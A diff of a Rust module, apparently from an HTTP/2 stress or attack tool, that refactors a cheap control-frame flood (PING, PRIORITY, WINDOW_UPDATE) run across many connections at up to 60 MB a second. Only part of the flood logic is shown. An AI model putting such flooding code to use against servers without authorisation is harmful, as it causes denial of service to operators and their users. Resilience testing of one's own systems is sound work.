@@ -1,9 +1,8 @@
 //! Floods of frames that cost their sender next to nothing and are not part of a request.
 
 use std::io;
-use std::sync::Arc;
 
-use super::super::attack_context::{AttackContext, Throttle};
+use super::super::attack_context::{Context, Throttle};
 use super::super::frames::{Frames, INITIAL_WINDOW, PING, PRIORITY, WINDOW_UPDATE};
 
 const BYTES_PER_SECOND: u64 = 60_000_000;
@@ -26,11 +25,11 @@ pub(in super::super) fn rate() -> String {
     format!("{CONNECTIONS} connections, {} MB a second at most", BYTES_PER_SECOND / 1_000_000)
 }
 
-pub(in super::super) async fn begin(context: Arc<AttackContext>) {
+pub(in super::super) async fn begin(context: Context) {
     context.lanes(CONNECTIONS, CONNECTIONS, flood).await;
 }
 
-async fn flood(context: Arc<AttackContext>, lane: u64) -> io::Result<()> {
+async fn flood(context: Context, lane: u64) -> io::Result<()> {
     let frame = FLOODS[(lane % FLOODS.len() as u64) as usize];
     let mut peer = context.dial().await?;
     peer.send(&Frames::opening(&[]).0).await?;
